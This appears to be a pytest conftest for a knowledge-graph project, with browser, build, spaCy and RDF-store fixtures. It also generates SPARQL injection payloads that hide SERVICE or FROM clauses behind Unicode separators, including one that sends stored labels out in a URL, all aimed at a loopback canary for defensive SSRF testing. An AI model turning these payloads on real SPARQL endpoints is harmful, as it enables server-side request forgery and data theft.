"""Browser fixtures: headless Debian Chromium driven by Playwright's sync API;
and the seeds graph, built once per session.

Tests marked ``browser`` use the browser fixtures. They skip, saying why, when
``/usr/bin/chromium`` or Playwright is missing (CI installs both).
"""
from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]


@pytest.fixture(scope="session")
def chromium_browser():
    """One headless Chromium for the whole session."""
    if not CHROMIUM.is_file():
        pytest.skip(f"{CHROMIUM} is missing: `apt-get install chromium` to run the browser tests")
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright is missing: pip install -e '.[test]'")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture
def browser_page(chromium_browser):
    """A fresh page that may load ``file://`` only.

    Yields a namespace: ``page``; ``requests`` (every URL requested);
    ``blocked`` (non-file URLs, aborted); ``errors`` (console errors and
    uncaught exceptions); ``dialogs`` (alert/confirm/prompt messages, dismissed).
    """
    context = chromium_browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    seen = SimpleNamespace(page=page, requests=[], blocked=[], errors=[], dialogs=[])

    def route(route):
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            seen.blocked.append(route.request.url)
            route.abort()

    def on_dialog(dialog):
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    context.route("**/*", route)
    page.on("request", lambda request: seen.requests.append(request.url))
    page.on("console", lambda msg: seen.errors.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: seen.errors.append(str(exc)))
    page.on("dialog", on_dialog)
    yield seen
    context.close()


@pytest.fixture(scope="session")
def seeds_build(tmp_path_factory):
    """``kg build seeds`` once per session (slow: loads spaCy); the output folder."""
    import kg

    out = tmp_path_factory.mktemp("seeds")
    kg.build([Path(__file__).resolve().parent.parent / "seeds"], out)
    return out


@pytest.fixture(scope="session")
def seeds_dir(seeds_build):
    """The seeds build, for tests that read graph.ttl or the store only."""
    return seeds_build


def _by_value(triples) -> set:
    """Triples with ``xsd:decimal`` literals compared by value.

    kg writes decimals canonically, as Oxigraph keeps them (``"35"^^xsd:decimal``);
    rdflib's Turtle and TriG writers put that back as ``35.0``, which rdflib then
    reads as another term with the same value.
    """
    from rdflib import XSD, Literal

    def term(node):
        if isinstance(node, Literal) and node.datatype == XSD.decimal:
            return ("decimal", node.toPython())
        return node

    return {(s, p, term(o)) for s, p, o in triples}


@pytest.fixture
def by_value():
    """:func:`_by_value`, for tests that pass kg's graphs through rdflib's writers."""
    return _by_value


@pytest.fixture(scope="session")
def gaz():
    """kg's gazetteer (actors and places), loaded once."""
    from kg.gazetteer import load_gazetteer

    return load_gazetteer()


@pytest.fixture(scope="session")
def nlp(gaz):
    """The spaCy pipeline as kg adapts it (slow to load: once per session)."""
    from kg.engines import load_resources

    return load_resources(None)[0]


# ---------------------------------------------------------------------------
# SSRF: a canary HTTP server on loopback, and queries that try to reach it
# ---------------------------------------------------------------------------

#: Characters that one parser or another may take as white space or a line end.
SEPARATORS = {
    "CR": "\r", "LF": "\n", "CRLF": "\r\n", "LFCR": "\n\r", "VT": "\x0b", "FF": "\x0c", "NEL": "\x85",
    "LS": "\u2028", "PS": "\u2029", "NBSP": "\xa0", "OGHAM": "\u1680", "MVS": "\u180e",
    **{f"U+{code:04X}": chr(code) for code in range(0x2000, 0x200B)},
    "ZWSP": "\u200b", "ZWNJ": "\u200c", "ZWJ": "\u200d", "NNBSP": "\u202f", "MMSP": "\u205f",
    "WJ": "\u2060", "IDSP": "\u3000", "BOM": "\ufeff", "TAB": "\t", "SPACE": " ", "NUL": "\x00",
    **{f"U+{code:04X}": chr(code) for code in range(0x1c, 0x20)},  # str.splitlines() line ends
}


class Canary:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self):
        import http.server
        import threading

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append((self.command, self.path, self.headers.get("User-Agent")))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_PUT = do_HEAD = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def canary_server():
    running = Canary()
    yield running
    running.close()


@pytest.fixture
def canary(canary_server):
    """The canary, its hit list emptied."""
    canary_server.hits.clear()
    return canary_server


def _ssrf_queries(url: str, separators=None) -> list[tuple[str, str]]:
    """(name, query) pairs: every separator in comments, strings and IRIs around a SERVICE
    (or FROM) that Oxigraph would run if it read the separator as a line end or a space."""
    separators = SEPARATORS if separators is None else separators
    target = f"<{url}>"
    exfil = f'BIND(IRI(CONCAT("{url}", ENCODE_FOR_URI(STR(?o)))) AS ?u)'
    forms = {
        "comment": "SELECT * WHERE {{ # x{s}SERVICE {t} {{ ?a ?b ?c }} \n}}",
        "comment-silent": "SELECT * WHERE {{ #{s}SERVICE SILENT {t} {{ ?a ?b ?c }}\n}}",
        "comment-lower": "select * where {{ # x{s}service {t} {{ ?a ?b ?c }}\n}}",
        "comment-first": "# x{s}SELECT * WHERE {{ SERVICE {t} {{ ?a ?b ?c }} }}",
        # store labels in the URL: exfiltration
        "comment-var": "SELECT * WHERE {{ ?s ?p ?o " + exfil + " # x{s}LATERAL {{ SERVICE ?u {{ ?a ?b ?c }} }}\n}}",
        "comment-prefix": "PREFIX x: {t}\nSELECT * WHERE {{ # {s}SERVICEx:a {{ ?a ?b ?c }}\n}}",
        "comment-string": "SELECT * WHERE {{ # \"{s}SERVICE {t} {{ ?a ?b ?c }} # \"\n}}",
        "string": "SELECT * WHERE {{ BIND(\"x{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        "string-long": "SELECT * WHERE {{ BIND(\"\"\"a{s}\"\"\" AS ?v) "
                       "BIND(\"\"\"{s}SERVICE {t} {{ ?a ?b ?c }}\"\"\" AS ?w) }}",
        "string-hash": "SELECT * WHERE {{ BIND(\"#{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        "string-break": "SELECT * WHERE {{ BIND('a{s}SERVICE {t} {{ ?a ?b ?c }}' AS ?v) }}",
        "service-space": "SELECT * WHERE {{ SERVICE{s}{t} {{ ?a ?b ?c }} }}",
        "iri": "SELECT * WHERE {{ ?s ?p <http://x/{s}#> # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        # '<' is "less than" to the engine here: what follows the '#' is a comment to it
        "iri-hash": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2#> \"\"\"{s}) SERVICE {t} {{ ?a ?b ?c }}\n"
                    "# \"\"\"\n}}",
        # ... and the quote after "&&" starts a string to it
        "iri-quote": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2&&'b> && \"x' ) SERVICE {t} {{ ?a ?b ?c }} "
                     "#\"{s}) }}\n}}",
        "keyword-split": "SELECT * WHERE {{ SERV{s}ICE {t} {{ ?a ?b ?c }} }}",
        "from": "SELECT (COUNT(*) AS ?n) # x{s}FROM <http://example.org/nothing>\nWHERE {{ ?s ?p ?o }}",
        "from-named": "SELECT (COUNT(*) AS ?n) # {s}FROM NAMED <http://example.org/nothing>\n"
                      "WHERE {{ ?s ?p ?o }}",
    }
    return [(f"{form}/{name}", text.format(s=sep, t=target))
            for form, text in forms.items() for name, sep in separators.items()]


@pytest.fixture(scope="session")
def ssrf_queries():
    """:func:`_ssrf_queries`: ``ssrf_queries(canary.url)``."""
    return _ssrf_queries


def _generated_documents(n: int = 40, seed: int = 7):
    """kg-shaped documents (kg's own GraphBuilder): actors and places, some of two entities with one
    label (a walk must never split equal keys), all modalities, speakers, agreements, evidence dates;
    a sentence in two documents."""
    import random

    from kg.rdf import GraphBuilder
    from kg.records import Agreement, Claim, Document, Entity, EventDate, Span
    from kg.resources import load_data
    from kg.rdf import new_graph

    rng = random.Random(seed)
    relations = load_data("relations")["relations"]
    entities, names = {}, {}
    for i in range(24):
        label = f"Actor {i % 18}" if i < 20 else "Émir ünïcode"  # Actor 0..1 twice; non-ASCII labels
        entities[f"a{i}"] = Entity(f"a{i}", label, (rng.choice(("State", "ArmedGroup", "Person")),))
        names[f"a{i}"] = {f"A{i}"}
    for i in range(10):
        entities[f"p{i}"] = Entity(f"p{i}", f"Place {i % 8}", ("Place",), lat=30 + i, long=40 + i)
        names[f"p{i}"] = set()
    actors = [e for e in entities if e.startswith("a")]
    places = [e for e in entities if e.startswith("p")]
    shared = "A shared wire sentence about a truce."
    fragments = []
    for n_doc in range(n):
        doc_id = f"doc{rng.randint(0, 10 ** 6):07d}"  # identifiers not in document order
        claims, agreements, dates, offset = [], [], {}, 0
        for k in range(rng.randint(3, 9)):
            relation = rng.choice(list(relations))
            spec = relations[relation]
            subject = rng.choice(actors)
            obj = rng.choice(places) if spec["range"] == "Place" else rng.choice([a for a in actors if a != subject])
            if spec["domain"] == "Place":
                subject, obj = rng.sample(places, 2)
            text = shared if k == 0 and n_doc % 5 == 0 else f"Sentence {n_doc}-{k} on {relation} words."
            span = Span(offset, offset + len(text))
            modality = rng.choice(("asserted", "reported", "planned", "denied", "unconfirmed"))
            speaker = rng.choice(actors) if rng.random() < 0.4 else None
            claims.append(Claim(subject, relation, obj, doc=doc_id, sentence=span, text=text, rule="test",
                                modality=modality, speaker=speaker))
            if spec["family"] == "agreement" and rng.random() < 0.6:
                agreements.append(Agreement(doc=doc_id, sentence=span, text=text, kind="truce",
                                            parties=(subject, obj), places=(rng.choice(places),), anchor=offset))
            if rng.random() < 0.8:
                dates[span] = EventDate(f"201{rng.randint(5, 8)}-{rng.randint(1, 3):02d}-01", "month", "stated",
                                        "in the month")
            offset = span.end + 1
        body = " " * offset
        document = Document(id=doc_id, path=f"{doc_id}.txt", text=body, body=body, title=f"T {n_doc}",
                            date="2017-10-15", sha256=f"{n_doc:064x}")
        builder = GraphBuilder(new_graph())
        builder.add_document(document)
        builder.add_claims(claims, entities, names, dates=dates)
        builder.add_agreements(agreements, entities, names, dates=dates)
        fragments.append((doc_id, builder.graph))
    return fragments


@pytest.fixture(scope="session")
def generated_store(tmp_path_factory):
    """A store of the generated documents, committed as a build into a non-empty store commits them."""
    from kg.store import Store, ntriples

    path = tmp_path_factory.mktemp("generated") / "store"
    fragments = _generated_documents()
    with Store.open(path) as store:
        store.load_documents([(doc_id, ntriples(graph)) for doc_id, graph in fragments], staging=True)
        store.commit(replace=[doc_id for doc_id, _ in fragments])
    return path
